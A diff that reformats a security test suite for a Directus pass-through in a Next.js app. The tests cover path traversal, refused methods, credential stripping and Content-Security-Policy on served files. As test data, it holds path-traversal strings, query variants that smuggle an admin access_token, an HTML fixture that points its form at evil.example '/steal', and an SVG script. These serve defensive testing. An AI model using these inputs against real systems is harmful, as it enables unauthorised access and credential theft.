@@ -73,7 +73,11 @@ describe('reading as the person', () => {
   it('reads the members collection with the person’s credential, privately', async () => {
     const answer = await ada.get('/api/directus/items/member_news?fields=title&sort=sort');
     expect(answer.status).toBe(200);
-    expect(answer.body.data.map((item: { title: string }) => item.title)).toEqual(['Welcome to the members area', 'Reading room hours', 'Annual meeting']);
+    expect(answer.body.data.map((item: { title: string }) => item.title)).toEqual([
+      'Welcome to the members area',
+      'Reading room hours',
+      'Annual meeting',
+    ]);
     expect(answer.headers.get('cache-control')).toBe('private, no-store');
     expect(answer.headers.get('set-cookie')).toBeNull();
   });
@@ -101,7 +105,9 @@ describe('reading as the person', () => {
       expect(answer.status, fields).toBe(200);
       expect(JSON.stringify(answer.body), fields).not.toMatch(/@example\.com/);
     }
-    const filtered = await ada.get(`/api/directus/items/member_news?filter[image][uploaded_by][email][_eq]=${LOCAL_STACK.directus.adminEmail}`);
+    const filtered = await ada.get(
+      `/api/directus/items/member_news?filter[image][uploaded_by][email][_eq]=${LOCAL_STACK.directus.adminEmail}`,
+    );
     expect(filtered.status).toBe(403);
     expect(filtered.body.error.code).toBe('forbidden');
   });
@@ -133,7 +139,12 @@ describe('reading as the person', () => {
 
   it('lets a file anyone may read be cached as public', async () => {
     const [publicPolicy] = await directusAdmin<{ id: string }[]>('GET', '/policies?fields=id&filter[name][_eq]=$t:public_label');
-    const permission = await directusAdmin<{ id: number }>('POST', '/permissions', { policy: publicPolicy!.id, collection: 'directus_files', action: 'read', fields: ['*'] });
+    const permission = await directusAdmin<{ id: number }>('POST', '/permissions', {
+      policy: publicPolicy!.id,
+      collection: 'directus_files',
+      action: 'read',
+      fields: ['*'],
+    });
     try {
       const response = await fetch(`${stack.appUrl}/api/directus/assets/${imageId}`, { headers: { Cookie: ada.cookie! } });
       expect(response.status).toBe(200);
@@ -171,7 +182,7 @@ describe('what never passes', () => {
     expect(JSON.parse(answer.body)).toEqual({ error: { code: 'path_not_allowed', message: expect.any(String) } });
   });
 
-  it('refuses a path it cannot percent-decode in the API shape, its sentence in the asker\'s language', async () => {
+  it("refuses a path it cannot percent-decode in the API shape, its sentence in the asker's language", async () => {
     const path = '/api/directus/items/%E0%A4%A';
     const english = await raw(path, { headers: { Cookie: ada.cookie! } });
     const spanish = await raw(path, { headers: { Cookie: ada.cookie!, 'Accept-Language': 'es-ES,es;q=0.9' } });
@@ -185,25 +196,33 @@ describe('what never passes', () => {
   });
 
   // Next itself redirects some of these (double slashes) before the pass-through sees them.
-  it.each(['/api/directus/items/../../users', '/api/directus/items/../users/me', '/api/directus/./items/../../settings', '/api/directus//users', '/api/directus/items//..//..//users'])(
-    'never reaches Directus with raw dot segments or double slashes: %s',
-    async (path) => {
-      const answer = await raw(path, { headers: { Cookie: ada.cookie! } });
-      expect([403, 404, 308]).toContain(answer.status);
-      expect(answer.body).not.toContain(ADA.email);
-    },
-  );
+  it.each([
+    '/api/directus/items/../../users',
+    '/api/directus/items/../users/me',
+    '/api/directus/./items/../../settings',
+    '/api/directus//users',
+    '/api/directus/items//..//..//users',
+  ])('never reaches Directus with raw dot segments or double slashes: %s', async (path) => {
+    const answer = await raw(path, { headers: { Cookie: ada.cookie! } });
+    expect([403, 404, 308]).toContain(answer.status);
+    expect(answer.body).not.toContain(ADA.email);
+  });
 
   it('refuses methods the list does not allow, before reading anything', async () => {
     for (const method of ['POST', 'PATCH', 'DELETE', 'PUT']) {
-      const answer = await ada.request(method, '/api/directus/items/member_news', { body: {}, headers: { 'Content-Type': 'application/json', Origin: stack.appUrl } });
+      const answer = await ada.request(method, '/api/directus/items/member_news', {
+        body: {},
+        headers: { 'Content-Type': 'application/json', Origin: stack.appUrl },
+      });
       expect(answer.status, method).toBe(403);
       expect(answer.body.error.code).toBe('path_not_allowed');
     }
   });
 
   it('sends nothing of the browser’s credentials: not its Authorization, not access_token', async () => {
-    const stranger = await raw(`/api/directus/items/member_news?access_token=${ADMIN}`, { headers: { Authorization: `Bearer ${ADMIN}`, Cookie: `directus_session_token=${ADMIN}` } });
+    const stranger = await raw(`/api/directus/items/member_news?access_token=${ADMIN}`, {
+      headers: { Authorization: `Bearer ${ADMIN}`, Cookie: `directus_session_token=${ADMIN}` },
+    });
     expect(stranger.status).toBe(401);
     expect(JSON.parse(stranger.body).error.code).toBe('unauthorized');
     // Directus refuses a token in the query and the header together (400): a 200 shows it got one.
@@ -215,12 +234,20 @@ describe('what never passes', () => {
 // Directus reads its query with qs, for which a key that starts with a bracket group takes that
 // group's name: `[access_token]=T` is access_token to Directus, and T its credential.
 describe('a token smuggled into the query', () => {
-  const SMUGGLED = [`access_token=${ADMIN}`, `[access_token]=${ADMIN}`, `%5Baccess_token%5D=${ADMIN}`, `%5baccess_token%5d=${ADMIN}`, `[access_token][x]=${ADMIN}`, `%61ccess_token[]=${ADMIN}`];
+  const SMUGGLED = [
+    `access_token=${ADMIN}`,
+    `[access_token]=${ADMIN}`,
+    `%5Baccess_token%5D=${ADMIN}`,
+    `%5baccess_token%5d=${ADMIN}`,
+    `[access_token][x]=${ADMIN}`,
+    `%61ccess_token[]=${ADMIN}`,
+  ];
   const STAFF_ONLY = 'staff_notes';
 
   beforeAll(async () => {
     const collections = await directusAdmin<{ collection: string }[]>('GET', '/collections?fields=collection');
-    if (!collections.some(({ collection }) => collection === STAFF_ONLY)) await directusAdmin('POST', '/collections', { collection: STAFF_ONLY, schema: {}, meta: {} });
+    if (!collections.some(({ collection }) => collection === STAFF_ONLY))
+      await directusAdmin('POST', '/collections', { collection: STAFF_ONLY, schema: {}, meta: {} });
   });
 
   it.each(SMUGGLED)('gives the member only their own rights on a collection they may not read: ?%s', async (query) => {
@@ -233,7 +260,10 @@ describe('a token smuggled into the query', () => {
     // Members read every file in the local seed; here, for a while, they read none.
     let memberFilesRead: { id: number; policy: string };
     beforeAll(async () => {
-      const [memberNews] = await directusAdmin<{ policy: string }[]>('GET', '/permissions?fields=policy&filter[collection][_eq]=member_news&filter[action][_eq]=read');
+      const [memberNews] = await directusAdmin<{ policy: string }[]>(
+        'GET',
+        '/permissions?fields=policy&filter[collection][_eq]=member_news&filter[action][_eq]=read',
+      );
       const [files] = await directusAdmin<{ id: number; policy: string }[]>(
         'GET',
         `/permissions?fields=id,policy&filter[collection][_eq]=directus_files&filter[action][_eq]=read&filter[policy][_eq]=${memberNews!.policy}`,
@@ -241,7 +271,14 @@ describe('a token smuggled into the query', () => {
       memberFilesRead = files!;
       await directusAdmin('DELETE', `/permissions/${memberFilesRead.id}`);
     });
-    afterAll(() => directusAdmin('POST', '/permissions', { policy: memberFilesRead.policy, collection: 'directus_files', action: 'read', fields: ['*'] }));
+    afterAll(() =>
+      directusAdmin('POST', '/permissions', {
+        policy: memberFilesRead.policy,
+        collection: 'directus_files',
+        action: 'read',
+        fields: ['*'],
+      }),
+    );
 
     it('refuses the member the file', async () => {
       const answer = await ada.get(`/api/directus/assets/${imageId}`);
@@ -263,8 +300,16 @@ describe('files on the app’s origin', () => {
   let pageId: string;
   let drawingId: string;
   beforeAll(async () => {
-    pageId = await uploadAsAdmin('page.html', 'text/html', '<!doctype html><base href="https://evil.example/"><form action="/steal"><input name="code"></form>');
-    drawingId = await uploadAsAdmin('drawing.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
+    pageId = await uploadAsAdmin(
+      'page.html',
+      'text/html',
+      '<!doctype html><base href="https://evil.example/"><form action="/steal"><input name="code"></form>',
+    );
+    drawingId = await uploadAsAdmin(
+      'drawing.svg',
+      'image/svg+xml',
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    );
   });
 
   const asset = async (id: string) => {
@@ -278,7 +323,9 @@ describe('files on the app’s origin', () => {
       const { status, headers } = await asset(id);
       expect(status).toBe(200);
       const policy = (headers.get('content-security-policy') ?? '').split(/\s*;\s*/);
-      expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'", 'sandbox']));
+      expect(policy).toEqual(
+        expect.arrayContaining(["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'", 'sandbox']),
+      );
       expect(headers.get('x-content-type-options')).toBe('nosniff');
     }
   });
@@ -324,12 +371,19 @@ describe('signed out', () => {
 describe('state-changing methods, where the list allows them', () => {
   let writable: AppInstance;
   beforeAll(async () => {
-    writable = await startApp(TEST_PORTS.app + 13, { ...stack.appEnv, DIRECTUS_PASS_THROUGH: 'GET /items/*, POST|PATCH /items/member_news/*', DIRECTUS_PASS_THROUGH_MAX_BODY_BYTES: '1024' });
+    writable = await startApp(TEST_PORTS.app + 13, {
+      ...stack.appEnv,
+      DIRECTUS_PASS_THROUGH: 'GET /items/*, POST|PATCH /items/member_news/*',
+      DIRECTUS_PASS_THROUGH_MAX_BODY_BYTES: '1024',
+    });
   });
   afterAll(() => writable?.stop());
 
   const post = (api: ReturnType<typeof apiClient>, headers: Record<string, string>, raw = '{"title":"x"}') =>
-    api.request('PATCH', '/api/directus/items/member_news/1', { raw, headers: { 'Content-Type': 'application/json', Origin: writable.url, ...headers } });
+    api.request('PATCH', '/api/directus/items/member_news/1', {
+      raw,
+      headers: { 'Content-Type': 'application/json', Origin: writable.url, ...headers },
+    });
 
   it('follow the auth routes’ Origin and JSON rules, and a size cap, and Directus’s permissions', async () => {
     const member = await signIn(writable.url);
